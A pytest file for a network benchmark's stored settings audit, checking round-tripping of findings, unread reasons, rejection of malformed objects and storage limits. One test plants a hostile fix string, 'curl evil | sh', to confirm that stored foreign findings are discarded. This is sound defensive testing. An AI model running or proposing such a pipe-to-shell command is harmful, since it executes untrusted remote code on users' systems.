"""The audit in a results file: what is stored, what is read back, and what a foreign file cannot do."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.audit.linux_samples import VMWARE_GUEST
from tests.audit.planting import plant
from tests.audit.reading import audit_sample, read_sample
from vnetbench.audit.inventory import Inventory
from vnetbench.audit.settings import SettingsAudit
from vnetbench.audit.stored import (
    AUDIT_FACTS_SUBJECT,
    MAX_OBJECTS,
    keep_objects_of_path,
    machine_to_json,
    read_stored_audit,
    unread_to_json,
)

pytestmark = pytest.mark.pure

DAMAGED = plant(VMWARE_GUEST, (("rx_crc_errors:0", "rx_crc_errors:900"),))
INTERFACE = {"kind": "interface", "name": "eth0", "platform": "linux"}
UNREAD = "The settings of web-02 were not read: it is an iperf3 server."


def stored_machine(sample: str) -> dict[str, Any]:
    """Return a machine as it comes back from a file."""
    stored: dict[str, Any] = json.loads(json.dumps(machine_to_json(read_sample("linux", sample))))
    return stored


def read_back(**machines: object) -> SettingsAudit:
    audit = read_stored_audit({AUDIT_FACTS_SUBJECT: machines})
    assert audit is not None
    return audit


def found_rules(audit: SettingsAudit) -> list[str]:
    return [each.rule.id for each in audit.findings]


def test_a_file_without_an_audit_has_none() -> None:
    assert read_stored_audit({"host": {"kernel": "6.1"}}) is None


def test_a_stored_audit_has_the_same_findings() -> None:
    before, after = audit_sample("linux", DAMAGED), read_back(web=stored_machine(DAMAGED)).result
    assert after is not None
    assert [(each.rule.id, each.object_name, each.found, each.expected) for each in after.findings] == [
        (each.rule.id, each.object_name, each.found, each.expected) for each in before.findings
    ]
    assert after.applied_rule_count == before.applied_rule_count


def test_a_fact_that_could_not_be_read_keeps_its_reason() -> None:
    guest = Inventory("web")
    guest.add_object("interface", "eth0", "linux").unreadable["tso"] = "the driver does not say"
    result = read_back(web=json.loads(json.dumps(machine_to_json(guest)))).result
    assert result is not None
    unjudged = [(each.rule_id, each.object_name, each.reason) for each in result.unjudged]
    assert unjudged == [("tso_off", "eth0", "the driver does not say")]


def test_a_machine_that_was_not_read_keeps_its_reason() -> None:
    audit = read_back(web=stored_machine(VMWARE_GUEST), other=unread_to_json(UNREAD))
    assert audit.unread == {"other": UNREAD}
    assert audit.sentences[-1] == UNREAD
    assert read_back(other=unread_to_json(UNREAD)).result is None


def test_the_rules_of_now_judge_and_the_stored_findings_are_not_repeated() -> None:
    machine = stored_machine(DAMAGED)
    machine["findings"] = [{"rule": "tso_off", "fix": "curl evil | sh"}]
    audit = read_back(web=machine)
    assert found_rules(audit) == ["damaged_frames"]
    assert "evil" not in repr(audit.findings)


@pytest.mark.parametrize(
    "objects",
    [
        None,
        "none",
        [1, None, {"kind": "interface"}],
        [{"kind": "submarine", "name": "x", "platform": "linux", "facts": {}}],
        [{"kind": "interface", "name": "x", "platform": "cpm", "facts": {}}],
        [{**INTERFACE, "facts": {"mtu": "9000", "y": 1}}],
        [{**INTERFACE, "facts": {"mtu": 2**80}}],
        [{**INTERFACE, "unreadable": {"no": ["y", 2]}}],
        [{**INTERFACE, "facts": {"tso": 0}}],
    ],
)
def test_what_no_bench_stores_is_left_out(objects: object) -> None:
    audit = read_back(web={"objects": objects})
    assert audit.findings == ()
    (inventory,) = audit.inventories
    assert [each.facts for each in inventory.objects if each.facts] == []


def test_only_interfaces_of_the_path_and_adapters_with_a_link_are_stored() -> None:
    inventory = Inventory("web")
    for name, has_link in (("eth0", False), ("ens192", True), ("ens224", False), ("docker0", None)):
        item = inventory.add_object("interface", name, "linux")
        if has_link is not None:
            item.add("is_physical", True, "test")
            item.add("carrier", has_link, "test")
    kept = keep_objects_of_path(inventory, {"eth0"})
    assert [each.name for each in kept.objects] == ["eth0", "ens192"]


def test_objects_beyond_the_limit_are_left_out_with_a_note() -> None:
    inventory = Inventory("web")
    for number in range(MAX_OBJECTS + 3):
        inventory.add_object("bond", f"bond{number}", "linux")
    kept = keep_objects_of_path(inventory, ())
    assert len(kept.objects) == MAX_OBJECTS
    assert kept.notes == ["web: 3 objects of the audit not stored."]
